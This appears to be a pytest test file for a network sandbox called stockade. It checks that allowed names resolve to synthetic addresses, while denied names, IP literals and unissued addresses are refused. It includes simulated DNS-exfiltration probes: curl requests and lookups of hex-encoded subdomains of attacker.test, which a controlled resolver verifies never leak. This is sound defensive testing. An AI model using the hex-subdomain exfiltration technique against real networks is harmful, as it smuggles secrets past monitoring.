"""stockade's resolver and capture as a program without proxy variables sees them (issue 13).

* an allowed name resolves to one synthetic address (127.64.0.0/16), the same each time,
  and a connection to it reaches the right server;
* a name not in the policy fails at once (NXDOMAIN, well under a second) with a
  ``dns_query`` denial; a name shaped like exfiltration (``<hex>.attacker.test``) never
  causes a lookup outside the sandbox, proved with a resolver this test controls;
* a connection to an IP literal not in the policy, to a synthetic address stockade did
  not issue, or to a port the policy does not name fails, and nothing reaches a server.
"""

from __future__ import annotations

import ipaddress
import os
import shutil
import socket
import struct
import threading
import uuid
from collections.abc import Iterator

import pytest

from tests.clients.conftest import (
    TRANSPARENT_PRELUDE,
    Ran,
    Servers,
    policy_text,
    run_script,
)
from tests.conftest import World, require

pytestmark = pytest.mark.usefixtures("kernel")

ALLOWED = "web.dns.test"
FAST = 0.5


def exfil_name() -> str:
    """A name whose first label carries 16 bytes of data, hex-encoded."""
    return f"{os.urandom(16).hex()}.attacker.test"


def probe_run(world: World, servers: Servers, exfil: str, token: str) -> Ran:
    policy = policy_text(allow=[f"{ALLOWED}:{servers.http.port}"], pins=[ALLOWED])
    # First through the proxy (its variables are set): an IP literal not in the policy.
    literal = (
        "echo PROBE proxy_literal \\\"$(curl -sS -m 5 -o /dev/null -w '%{http_code}' "
        f'http://127.0.0.1:{servers.http.port}/t/{token}-proxy-literal/hello)\\"\n'
    )
    script = (
        "cd run-dns || exit 1\n"
        + literal
        + TRANSPARENT_PRELUDE
        + f'"$CLIENT_PY" ../dns_probe.py {ALLOWED} denied.no.test {exfil} '
        f"{servers.http.port} {servers.echo.ports[1]} {token}\n"
    )
    return run_script(world, script, policy, label="dns")


@pytest.fixture(scope="module")
def dns_run(cworld: World, servers: Servers) -> tuple[Ran, str, str]:
    exfil = exfil_name()
    token = f"dns-{uuid.uuid4().hex[:12]}"
    ran = probe_run(cworld, servers, exfil, token)
    assert ran.proc.returncode == 0, ran.out
    assert "allowed" in ran.probes, ran.out
    return ran, exfil, token


def test_an_allowed_name_gets_one_synthetic_address_and_reaches_its_server(
    dns_run: tuple[Ran, str, str], servers: Servers
) -> None:
    ran, _, token = dns_run
    p = ran.probes
    assert p["nameserver"] == "127.0.0.1"
    addresses = p["allowed"]["addresses"]
    assert len(addresses) == 1, p["allowed"]
    address = ipaddress.ip_address(addresses[0])
    assert address in ipaddress.ip_network("127.64.0.0/16"), address
    # Stable: the same address for the C library's lookup, again, and by hand.
    assert p["allowed_again"]["addresses"] == addresses
    # AI_ADDRCONFIG (with or without AF_INET) disregards loopback in glibc: the name must
    # resolve all the same.
    assert p["allowed_addrconfig"].get("addresses") == addresses, p["allowed_addrconfig"]
    assert p["allowed_addrconfig_any"].get("addresses") == addresses, p["allowed_addrconfig_any"]
    assert (p["allowed_raw_a"]["rcode"], p["allowed_raw_a"]["a"]) == (0, addresses)
    # Other types: NODATA (no error), so clients asking for both families go on with A.
    assert (p["allowed_raw_aaaa"]["rcode"], p["allowed_raw_aaaa"]["answers"]) == (0, 0)
    assert (p["allowed_raw_txt"]["rcode"], p["allowed_raw_txt"]["answers"]) == (0, 0)
    assert p["allowed_http"] == [200, f"hello {token} via http:{servers.http.port}"]
    assert {s.host for s in servers.http.seen_for(token)} == {f"{ALLOWED}:{servers.http.port}"}
    lookups = [e for e in ran.about(ALLOWED) if e["event"] == "dns_query"]
    assert lookups, ran.brief(ALLOWED)
    assert all(e["verdict"] == "allow" and e.get("address") == str(address) for e in lookups)
    connects = [e for e in ran.allowed(ALLOWED) if e["event"] == "net_connect"]
    assert [e.get("mode") for e in connects] == ["transparent"], ran.brief(ALLOWED)
    assert "localhost" in str(p["localhost"]) or "127.0.0.1" in p["localhost"]["addresses"]


def test_a_name_not_in_the_policy_fails_at_once_with_a_dns_query_event(
    dns_run: tuple[Ran, str, str],
) -> None:
    ran, exfil, _ = dns_run
    p = ran.probes
    assert "error" in p["denied"], p["denied"]
    assert p["denied"]["seconds"] < FAST, p["denied"]
    assert p["denied_raw_a"]["rcode"] in (3, 5), p["denied_raw_a"]  # NXDOMAIN or REFUSED
    assert p["denied_raw_a"]["seconds"] < FAST
    for key in ("exfil_raw_a", "exfil_raw_aaaa"):
        assert p[key]["rcode"] in (3, 5), p[key]
        assert p[key]["seconds"] < FAST, p[key]
    assert "error" in p["exfil"]
    for name in ("denied.no.test", exfil):
        denials = ran.denials(name)
        assert denials, ran.brief(name)
        assert {(e["event"], e["reason"]) for e in denials} == {("dns_query", "host-not-allowed")}
    # Nothing but the refused lookups: the proxy never connected to or resolved them.
    assert [e["event"] for e in ran.about(exfil)] == ["dns_query"] * len(ran.about(exfil))


def test_the_resolver_survives_garbage_and_names_too_long(dns_run: tuple[Ran, str, str]) -> None:
    ran, _, _ = dns_run
    p = ran.probes
    # Answered or not, neither stops the resolver: the next good question is answered.
    assert "garbage" in p
    assert "too_long" in p
    assert p["after_garbage"]["rcode"] == 0
    assert p["after_garbage"]["a"] == p["allowed"]["addresses"]


def test_ip_literals_unissued_addresses_and_other_ports_are_refused(
    dns_run: tuple[Ran, str, str], servers: Servers
) -> None:
    ran, _, token = dns_run
    p = ran.probes
    # Through the proxy: the forward proxy refuses the literal.
    assert p["proxy_literal"] == "403", p
    # Without proxy variables: the literal's connection is captured and refused too.
    for key in ("loopback_literal", "documentation_literal", "unissued"):
        assert "HTTP/1.1 200" not in p[key].get("data", ""), (key, p[key])
    assert servers.seen_for(f"{token}-proxy-literal") == []
    assert not [s for s in servers.http.seen if s.token.startswith(f"{token}-")]
    address = ipaddress.ip_address(p["allowed"]["addresses"][0])
    unissued = str(ipaddress.IPv4Address(int(address) + 40000))
    for host in ("127.0.0.1", "192.0.2.1", unissued):
        denials = ran.denials(host)
        assert denials, f"{host}: no denial in {ran.events}"
        assert all(e["event"] in ("net_connect", "net_request") for e in denials)
    # A port the policy does not name is not captured: nothing listens there.
    assert "error" in p["port_not_in_policy"], p["port_not_in_policy"]
    assert servers.echo.ports[1] not in servers.echo.connections


# --- the proof with a resolver this test controls -----------------------------------------


class RecordingResolver:
    """A UDP name server on 127.0.0.153:53 that records every question it is asked and
    answers ``up.ok.test`` with 127.0.0.1 (NXDOMAIN for everything else)."""

    ADDRESS = "127.0.0.153"

    def __init__(self, answers: dict[str, str]) -> None:
        self.answers = answers
        self.asked: list[str] = []
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.sock.bind((self.ADDRESS, 53))
        self.sock.settimeout(0.2)
        self._stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                data, peer = self.sock.recvfrom(4096)
            except TimeoutError:
                continue
            except OSError:
                return
            if len(data) < 17:
                continue
            labels, at = [], 12
            while at < len(data) and data[at]:
                labels.append(data[at + 1 : at + 1 + data[at]].decode(errors="replace"))
                at += 1 + data[at]
            name = ".".join(labels).lower()
            qtype = struct.unpack("!H", data[at + 1 : at + 3])[0]
            self.asked.append(name)
            question = data[12 : at + 5]
            address = self.answers.get(name)
            if address is not None and qtype == 1:
                answer = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 5, 4)
                answer += ipaddress.IPv4Address(address).packed
                head = struct.pack("!HHHHHH", int.from_bytes(data[:2]), 0x8180, 1, 1, 0, 0)
                self.sock.sendto(head + question + answer, peer)
            else:
                rcode = 0 if address is not None else 3
                head = struct.pack("!HHHHHH", int.from_bytes(data[:2]), 0x8180 | rcode, 1, 0, 0, 0)
                self.sock.sendto(head + question, peer)

    def close(self) -> None:
        self._stop.set()
        self.thread.join(2)
        self.sock.close()


@pytest.fixture
def recording_resolver() -> Iterator[RecordingResolver]:
    require(
        os.getuid() == 0 and shutil.which("unshare") is not None,
        "the resolver-you-control proof needs root (port 53, a mount namespace)",
    )
    try:
        resolver = RecordingResolver({"up.ok.test": "127.0.0.1"})
    except OSError as exc:
        require(False, f"cannot listen on {RecordingResolver.ADDRESS}:53: {exc}")
        raise
    yield resolver
    resolver.close()


LOOKUP = """
import json, socket, sys
try:
    socket.getaddrinfo(sys.argv[1], 443)
    print("PROBE exfil_lookup", json.dumps("resolved"))
except OSError as e:
    print("PROBE exfil_lookup", json.dumps(str(e)))
"""


def test_an_exfiltration_name_causes_no_lookup_outside_the_sandbox(
    cworld: World, servers: Servers, recording_resolver: RecordingResolver
) -> None:
    # stockade runs in a mount namespace whose /etc/resolv.conf names the recording
    # resolver: every lookup the proxy makes outside the sandbox is asked there. The twin:
    # up.ok.test is allowed but not pinned, so reaching it makes the proxy look it up
    # (and the literal 127.0.0.1 it gets back is allowed by an entry of its own).
    port = servers.http.port
    resolv = cworld.root / "resolv.conf"
    resolv.write_text(f"nameserver {RecordingResolver.ADDRESS}\noptions timeout:1 attempts:1\n")
    secrets = [exfil_name() for _ in range(4)]
    token = f"up-{uuid.uuid4().hex[:12]}"
    policy = policy_text(allow=[f"up.ok.test:{port}", f"127.0.0.1:{port}"], pins=[])
    curl = "curl -sS -m 5 -o /dev/null -w '%{http_code}'"
    script = (
        "cd run-exfil || exit 1\n"
        # With the proxy variables: the proxy refuses the name before any lookup.
        f'echo PROBE proxy_exfil \\"$({curl} http://{secrets[0]}:{port}/)\\"\n'
        f'echo PROBE proxy_up \\"$({curl} http://up.ok.test:{port}/t/{token}-proxy/hello)\\"\n'
        + TRANSPARENT_PRELUDE
        + f'echo PROBE exfil_curl \\"$({curl} http://{secrets[1]}:{port}/)\\"\n'
        f'echo PROBE exfil_https \\"$({curl} https://{secrets[2]}/)\\"\n'
        + f'"$CLIENT_PY" lookup.py {secrets[3]}\n'
        f'echo PROBE transparent_up \\"$({curl} http://up.ok.test:{port}/t/{token}/hello)\\"\n'
    )
    ran = run_script(
        cworld,
        script,
        policy,
        label="exfil",
        files={"run-exfil/lookup.py": LOOKUP},
        prefix=(
            "unshare",
            "--mount",
            "--propagation",
            "private",
            "sh",
            "-c",
            'mount --bind "$0" /etc/resolv.conf && exec "$@"',
            str(resolv),
        ),
    )
    assert ran.proc.returncode == 0, ran.out
    p = ran.probes
    assert p["proxy_up"] == "200", ran.out
    assert p["transparent_up"] == "200", ran.out
    assert servers.http.seen_for(token), "the captured connection did not reach the server"
    # The twin: the proxy's lookups do reach this resolver...
    assert "up.ok.test" in recording_resolver.asked, recording_resolver.asked
    # ...and not one of the exfiltration names ever did, in either mode.
    leaked = [n for n in recording_resolver.asked if "attacker" in n]
    assert leaked == [], leaked
    for name in secrets:
        assert not [n for n in recording_resolver.asked if name.split(".")[0] in n]
    assert p["proxy_exfil"] == "403"
    assert p["exfil_curl"] == "000"
    assert p["exfil_https"] == "000"
    assert p["exfil_lookup"] != "resolved"
    for name in secrets[1:]:
        assert {e["event"] for e in ran.denials(name)} == {"dns_query"}, ran.brief(name)
    assert {e["event"] for e in ran.denials(secrets[0])} <= {"net_request", "net_connect"}
    assert ran.denials(secrets[0]), ran.brief(secrets[0])
